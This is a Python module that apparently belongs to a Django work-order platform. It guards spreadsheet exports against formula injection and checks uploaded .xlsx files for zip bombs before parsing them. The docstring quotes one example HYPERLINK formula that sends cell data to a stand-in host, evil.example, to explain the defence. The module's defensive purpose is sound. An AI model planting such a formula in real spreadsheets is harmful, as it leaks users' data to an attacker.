"""Spreadsheets in and out: the one way a person's text goes into a spreadsheet the platform
writes, and the one check a workbook passes before the platform reads it (`check_xlsx` below).

A cell whose text starts with = + - @, a tab or a carriage return is taken for a formula by Excel
and WPS (CSV/formula injection: `=HYPERLINK("http://evil.example/?x="&B2,"点击查看")` in a case's
description would be live in the clerk's ledger). As OWASP describes, such text is written with a
leading apostrophe, and always as a text cell. Every export (the ledger, the 12345 results and
error lists, any added later) writes cells through `text()`/`row()`.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text(value):
    """`value` as a cell may hold it: a string that could start a formula is neutralised; numbers,
    dates and None pass as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row(values) -> list:
    """A row of cells, each through `text()`."""
    return [text(value) for value in values]


# -- reading: measure an archive before opening it ----------------------------------------------------

import re  # noqa: E402
import zipfile  # noqa: E402
from dataclasses import dataclass  # noqa: E402

# A real 12345 export of 100,000 rows has a 57 MB sheet at a ratio of 13; the zip bombs seen in the
# field ran at 230 to 410 (921 MB of sheet XML in a 4 MB file, 340 MB of shared strings in 830 KB).
MAX_MEMBER_BYTES = 256 * 2**20  # one part of the workbook, uncompressed
MAX_TOTAL_BYTES = 512 * 2**20  # all of it
MAX_SHARED_STRINGS_BYTES = 64 * 2**20  # read whole on opening: the slow part of a bomb
MAX_RATIO = 100  # uncompressed ÷ compressed, for a part over RATIO_FLOOR_BYTES
RATIO_FLOOR_BYTES = 2**20
MAX_ROWS = 200_000
MAX_COLUMNS = 200
DIMENSION = re.compile(rb"<(?:\w+:)?dimension[^>]*\bref=\"([A-Z]+)?(\d+)?(?::([A-Z]+)(\d+))?\"")


TOO_BIG_REASONS = ("part_too_large", "compressed_too_well", "too_many_rows", "too_many_columns")


@dataclass
class TooBig(Exception):
    """The workbook is refused before parsing: `reason` is a code, `detail` the part at fault."""

    reason: str
    detail: str = ""


def _column_number(letters: str) -> int:
    number = 0
    for letter in letters:
        number = number * 26 + ord(letter) - 64
    return number


def check_xlsx(handle) -> None:
    """Refuse an .xlsx whose parts are too large, compress too well (a zip bomb) or declare more
    rows or columns than the limits, reading only the zip directory and the sheet's first bytes.
    Raises TooBig; returns when the file may be parsed. The handle is rewound."""
    handle.seek(0)
    try:
        archive = zipfile.ZipFile(handle)
    except zipfile.BadZipFile:
        handle.seek(0)
        return  # not a zip: the reader says it cannot read it
    total = 0
    for member in archive.infolist():
        total += member.file_size
        if member.file_size > MAX_MEMBER_BYTES:
            raise TooBig("part_too_large", member.filename)
        if member.file_size > RATIO_FLOOR_BYTES and member.file_size > MAX_RATIO * max(member.compress_size, 1):
            raise TooBig("compressed_too_well", member.filename)
        if member.filename.lower().endswith("sharedstrings.xml") and member.file_size > MAX_SHARED_STRINGS_BYTES:
            raise TooBig("part_too_large", member.filename)
    if total > MAX_TOTAL_BYTES:
        raise TooBig("part_too_large", "")
    sheets = sorted(name for name in archive.namelist() if re.match(r"xl/worksheets/sheet\d+\.xml$", name))
    if sheets:
        with archive.open(sheets[0]) as sheet:
            head = sheet.read(4096)
        found = DIMENSION.search(head)
        if found and found.group(4):
            if int(found.group(4)) > MAX_ROWS:
                raise TooBig("too_many_rows", str(found.group(4), "ascii"))
            if _column_number(str(found.group(3), "ascii")) > MAX_COLUMNS:
                raise TooBig("too_many_columns", str(found.group(3), "ascii"))
    handle.seek(0)


def check_dimensions(rows: int, columns: int) -> None:
    """Rows and columns a reader knows before reading them (an .xls sheet's size)."""
    if rows > MAX_ROWS:
        raise TooBig("too_many_rows", str(rows))
    if columns > MAX_COLUMNS:
        raise TooBig("too_many_columns", str(columns))


def too_big_message(refused: TooBig) -> str:
    """What a person is told about a refused workbook, in plain words."""
    from django.utils.translation import gettext as _

    if refused.reason == "too_many_rows":
        return _("The file has more than %(n)s rows. Split it into smaller files.") % {"n": f"{MAX_ROWS:,}"}
    if refused.reason == "too_many_columns":
        return _("The file has more than %(n)s columns. Keep only the work-order columns.") % {"n": MAX_COLUMNS}
    return _("This file unpacks to far more data than a list of work orders holds. Export it again from "
             "the original system, or split it.")


# -- writing: one sheet from a list ------------------------------------------------------------------

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def workbook_response(filename: str, title: str, headers, rows, widths=()):
    """A download of one sheet: a bold header row, then `rows`, every cell through `text()`.
    `filename` may be Chinese (RFC 6266 encoding); `widths` are column widths in characters."""
    import tempfile

    from django.http import FileResponse
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font, PatternFill
    from openpyxl.utils import get_column_letter

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title[:31])
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    header = []
    for label in headers:
        cell = WriteOnlyCell(sheet, value=str(label))
        cell.font, cell.fill = Font(bold=True, color="FFFFFF"), PatternFill("solid", fgColor="B4282D")
        header.append(cell)
    sheet.append(header)
    for values in rows:
        sheet.append(row(values))
    out = tempfile.SpooledTemporaryFile(max_size=8 * 2**20)
    book.save(out)
    out.seek(0)
    return FileResponse(out, as_attachment=True, filename=filename, content_type=XLSX_TYPE)
